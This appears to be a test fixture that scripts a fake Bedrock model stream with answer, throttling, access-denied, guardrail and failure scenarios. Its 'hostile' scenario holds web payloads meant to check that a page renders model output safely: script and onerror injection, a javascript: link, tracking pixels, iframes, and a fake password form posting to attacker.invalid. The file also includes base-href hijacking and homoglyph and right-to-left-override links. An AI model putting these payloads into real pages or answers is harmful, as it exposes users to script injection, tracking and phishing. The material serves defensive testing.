import {
  blockStop,
  exception,
  messageStart,
  messageStop,
  metadata,
  paced,
  type ScriptedRequest,
  textDelta,
} from 'rx-bedrock/testing';
import { httpError, type LoopbackStep } from 'rx-bedrock/testing/loopback';
import type { ScenarioName } from '../../scenario.js';
import { answerTo } from './answer.js';
import { hurried, spoken } from './spoken.js';

/** What the loopback model can do: to answer, and to go wrong in the ways in which Bedrock does. */
const scenarios: Record<ScenarioName, (prompt: string, pace: number) => Iterable<LoopbackStep>> = {
  answer: (prompt, pace) => spoken(answerTo(prompt), pace),
  hurried: () => hurried(2_000, 8),
  hostile: (_, pace) =>
    spoken({ reasoning: 'Let us see what this page lets through.', text: hostile, tools: [] }, pace),
  guardrail: (_, pace) => [
    messageStart(),
    ...paced([textDelta('This was blocked by the content policy of this demonstration.')], pace * 20),
    blockStop(),
    messageStop('guardrail_intervened'),
    metadata({ inputTokens: 46, outputTokens: 0, totalTokens: 46 }),
  ],
  throttled: () => [
    httpError(429, 'ThrottlingException', 'Too many requests, please wait before trying again.'),
  ],
  refused: () => [
    httpError(
      403,
      'AccessDeniedException',
      "You don't have access to the model with the specified model ID.",
    ),
  ],
  broken: (prompt, pace) => [
    ...take(spoken(answerTo(prompt), pace), 300),
    exception('modelStreamErrorException', 'The model has failed in the middle of its answer.'),
  ],
};

/** A model that does what the request's metadata asks for. @param pace - milliseconds per token */
export function scriptFor(pace: number): (request: ScriptedRequest) => Iterable<LoopbackStep> {
  return ({ input }) => {
    const prompt = input.messages?.at(-1)?.content?.[0]?.text ?? '';
    const name = input.requestMetadata?.['scenario'] as ScenarioName | undefined;
    return scenarios[name ?? 'answer'](prompt, pace);
  };
}

function wideRow(cell: string): string {
  return `| ${Array.from({ length: 30 }, () => cell).join(' | ')} |`;
}

function* take<T>(items: Iterable<T>, count: number): Iterable<T> {
  let taken = 0;
  for (const item of items) {
    if (taken++ === count) return;
    yield item;
  }
}

const hostile = [
  '## Everything that a page must not do with a model’s words',
  'A script: <script>document.title = "owned"</script> and one in an image: <img src=x onerror="document.title=\'owned\'">',
  'A remote image, which would tell somebody that you have read this: ![a pixel](https://attacker.invalid/pixel.png?id=42)',
  'A link that says another thing than it does: [https://your-bank.example](https://attacker.invalid/login), and one ' +
    'that runs: [click me](javascript:document.title="owned").',
  '<iframe src="https://attacker.invalid/"></iframe>\n<style>body { display: none }</style>\n' +
    '<form action="https://attacker.invalid/"><input name="password"><button>Sign in</button></form>',
  'An address of the page’s own: <base href="https://attacker.invalid/"> and <a href="//attacker.invalid">here</a>.',
  '![a picture by reference][pixel] and <https://attacker.invalid/autolink>.\n\n[pixel]: https://attacker.invalid/two.png "two"',
  'Another alphabet: [apple](https://\u0430\u0440\u0440\u04cf\u0435.example/), and a turn: [a](https://attacker.invalid/\u202Egnp.exe).',
  '\u05E9\u05DC\u05D5\u05DD: this block is written from right to left.',
  `A word without an end: ${'endless'.repeat(60)}`,
  [wideRow('column'), wideRow('---'), wideRow('cell'), wideRow('cell')].join('\n'),
  'All of it is text, and none of it has happened.',
].join('\n\n');
